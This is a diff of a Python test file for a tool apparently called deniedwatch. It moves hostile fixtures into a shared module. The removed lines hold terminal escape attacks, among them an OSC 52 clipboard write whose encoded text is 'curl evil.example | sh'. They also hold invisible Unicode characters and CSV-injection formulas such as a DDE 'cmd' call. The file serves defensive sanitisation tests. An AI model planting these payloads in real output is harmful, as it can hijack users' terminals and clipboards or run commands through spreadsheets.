@@ -17,18 +17,8 @@ from deniedwatch.alerts.group import group_findings
 from deniedwatch.alerts.text import DEFAULT_IGNORABLE, clean, clean_json, defang, is_unsafe
 from deniedwatch.finding import Finding
 from deniedwatch.report import csv_cell, write_csv, write_json, write_jsonl
+from hostile import CSV_CASES, ESC, INVISIBLE, TERMINAL_ATTACKS
 from live_support import denial
-
-ESC = "\x1b"
-# Clear the screen, an OSC 8 hyperlink, an OSC 52 clipboard write, a C1 CSI (U+009B).
-TERMINAL_ATTACKS = [
-    "\x1b[2J\x1b[H",
-    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
-    "\x9b31m",
-    "\x00\x07\x08\x0b\x0c\r\n",
-]
-INVISIBLE = ["\u034f", "\ufe0f", "\U000e0100", "\u3164", "\u115f", "\u1160", "\uffa0", "\u2800"]
 
 
 def _raw_unsafe(text: str) -> list[str]:
@@ -121,34 +111,6 @@ def test_file_names_with_escape_sequences_are_escaped_in_warnings(cli, tmp_path:
 
 
 # ---- CSV injection (OWASP) ---------------------------------------------------------
-
-# (cell text from the record, the cell written). An apostrophe makes a spreadsheet
-# read the cell as text; controls are shown escaped so no tab, CR or newline is left
-# to start a new cell or row in any import.
-CSV_CASES: list[tuple[str, str]] = [
-    ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
-    ("+1+2", "'+1+2"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    ("\t=1", "'\\t=1"),
-    ("\r=1", "'\\r=1"),
-    (" =HYPERLINK(1)", "' =HYPERLINK(1)"),
-    ("\n=1+2", "'\\n=1+2"),
-    ("\x00=cmd|' /C calc'!A0", "'\\x00=cmd|' /C calc'!A0"),
-    (";=1+1", "';'=1+1"),  # defused whole, and for a reader that splits on ";"
-    (",=1+1", "','=1+1"),
-    ('"=1+1', "'\"=1+1"),
-    ("\u3000=1", "'\\u3000=1"),
-    ("\u200b@x", "'\\u200b@x"),
-    ("a\t=1+1", "a\\t=1+1"),  # a tab-separated import would split here: no tab is left
-    ("a;=1+1", "a;'=1+1"),  # a semicolon-separated import splits here
-    ("a, -1+2", "a, '-1+2"),
-    ('a|"@x', "a|\"'@x"),
-    ("aws-cli/2.17", "aws-cli/2.17"),
-    ("10.0.0.1", "10.0.0.1"),
-    ("a=b", "a=b"),
-    ("", ""),
-]
 
 
 @pytest.mark.parametrize(("value", "written"), CSV_CASES)
